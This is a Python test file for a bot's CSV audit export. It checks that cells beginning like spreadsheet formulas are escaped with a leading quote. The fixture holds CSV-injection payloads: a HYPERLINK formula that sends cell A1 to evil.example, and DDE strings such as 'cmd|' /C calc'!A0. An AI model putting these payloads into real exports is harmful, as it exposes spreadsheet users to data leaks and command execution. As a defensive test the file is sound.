"""`trunkbot audit --format csv` never hands a spreadsheet a formula (OWASP "CSV injection")."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest

from bot.audit_view import FIELDS, csv_cell, render_csv, render_json
from bot.store import AuditRecord, open_store

HOSTILE = AuditRecord(
    action="trunk.create",
    decision="refused",
    at=datetime(2026, 11, 2, 9, 30, tzinfo=UTC),
    event_id="@ev-1",
    email='=HYPERLINK("http://evil.example/?"&A1,"x")@evil.example',
    location_name="+cmd|' /C calc'!A0",
    request={"name": "-2+3+cmd|' /C calc'!A0", "type": "\tregistering", "org": "\r=1+1"},
    reason="@SUM(1+1)*cmd|' /C calc'!A0",
    result="refused",
    status=400,
)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("London HQ", "London HQ"),
        ("a=b", "a=b"),  # only the first character matters
        ("", ""),
        (None, ""),
        (-5, -5),  # our own numbers are numbers, not text
        (400, 400),
    ],
)
def test_a_cell_that_starts_like_a_formula_gets_a_quote(
    value: str | int | None, cell: str | int
) -> None:
    assert csv_cell(value) == cell


def test_render_csv_neutralizes_every_text_column() -> None:
    """Each hostile cell reads back as itself behind one quote; JSON keeps the raw value."""
    [header, row] = list(csv.reader(io.StringIO(render_csv([HOSTILE]), newline="")))
    assert header == list(FIELDS)
    cells = dict(zip(FIELDS, row, strict=True))
    for name in ("email", "location_name", "trunk_name", "trunk_type", "org_id", "reason"):
        assert cells[name].startswith("'"), name
    assert cells["email"] == "'" + str(HOSTILE.email)
    assert cells["trunk_type"] == "'\tregistering"
    assert cells["event_id"] == "'@ev-1"
    assert cells["action"] == "trunk.create"
    assert cells["status"] == "400"
    assert '"email": "=HYPERLINK' in render_json([HOSTILE])  # JSON is data, not a sheet


def test_the_cli_writes_neutralized_csv(tmp_path: Path) -> None:
    """The real `trunkbot audit --format csv`, as a subprocess, over a stored hostile row."""
    database = tmp_path / "trail.db"

    async def fill() -> None:
        async with await open_store(f"sqlite:///{database}") as store:
            await store.append_audit(HOSTILE)

    asyncio.run(fill())
    env = {k: v for k, v in os.environ.items() if not k.startswith("TRUNKBOT_")}
    env["TRUNKBOT_DATABASE_URL"] = f"sqlite:///{database}"
    env["TRUNKBOT_SECRETS_DIR"] = str(tmp_path / "no-secrets")
    run = subprocess.run(
        [sys.executable, "-m", "bot", "audit", "--format", "csv"],
        capture_output=True,  # bytes: text mode would turn a "\r" in a cell into "\n"
        cwd=tmp_path,
        env=env,
        timeout=60,
        check=False,
    )
    assert run.returncode == 0, run.stderr.decode()
    [row] = list(csv.DictReader(io.StringIO(run.stdout.decode(), newline="")))
    assert row["reason"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["location_name"] == "'+cmd|' /C calc'!A0"
    assert row["trunk_name"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["org_id"] == "'\r=1+1"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
